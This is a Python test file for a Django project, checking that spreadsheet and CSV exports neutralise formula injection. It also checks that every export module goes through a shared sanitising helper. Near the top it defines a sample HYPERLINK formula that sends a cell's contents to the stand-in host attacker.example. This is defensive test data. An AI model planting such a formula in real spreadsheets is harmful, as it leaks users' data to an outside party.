"""Formula injection (issue 16, high 3): text that looks like a formula is written as text everywhere."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

from django.conf import settings
from openpyxl import Workbook, load_workbook

from zhengtu.core.spreadsheets import append_row, csv_row, set_cell

ATTACK = '=HYPERLINK("http://attacker.example/?"&C2,"点击查看")'


def _read_back(workbook: Workbook) -> list[tuple[object, str]]:
    out = io.BytesIO()
    workbook.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).worksheets[0]
    return [(cell.value, cell.data_type) for row in sheet.iter_rows() for cell in row if cell.value is not None]


def test_formula_like_text_is_stored_as_text_in_both_kinds_of_worksheet() -> None:
    for write_only in (False, True):
        workbook = Workbook(write_only=write_only)
        sheet = workbook.create_sheet("导出") if write_only else workbook.active
        append_row(sheet, ["张三", ATTACK, "+86 138", "-1+1", "@SUM(A1)", "\t=1", 42])
        cells = _read_back(workbook)
        assert (ATTACK, "s") in cells  # the value is kept exactly, but never as a formula
        assert all(data_type != "f" for _value, data_type in cells), cells
        assert (42, "n") in cells


def test_set_cell_and_csv() -> None:
    workbook = Workbook()
    set_cell(workbook.active, row=1, column=1, value=ATTACK)
    assert _read_back(workbook) == [(ATTACK, "s")]
    buffer = io.StringIO()
    csv.writer(buffer).writerow(csv_row(["张三", ATTACK, "-2", 3]))
    assert next(csv.reader(io.StringIO(buffer.getvalue()))) == ["张三", "'" + ATTACK, "'-2", "3"]


# Files that write spreadsheets without being exports of user data, and why.
NOT_EXPORTS = {
    "zhengtu/assessment/instruments/build.py": "builds the shipped instrument workbooks from this repository's own text",
}


def test_every_module_that_writes_a_spreadsheet_goes_through_the_helper() -> None:
    """A future export that writes cells directly would reopen the hole: this keeps them on the helper."""
    root = Path(settings.BASE_DIR)
    writers = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(")
    offenders = []
    for path in sorted((root / "zhengtu").rglob("*.py")):
        relative = path.relative_to(root).as_posix()
        if "/tests/" in relative or relative.startswith("zhengtu/core/spreadsheets") or relative in NOT_EXPORTS:
            continue
        text = path.read_text(encoding="utf-8")
        if writers.search(text) and "zhengtu.core.spreadsheets" not in text:
            offenders.append(relative)
    assert offenders == []
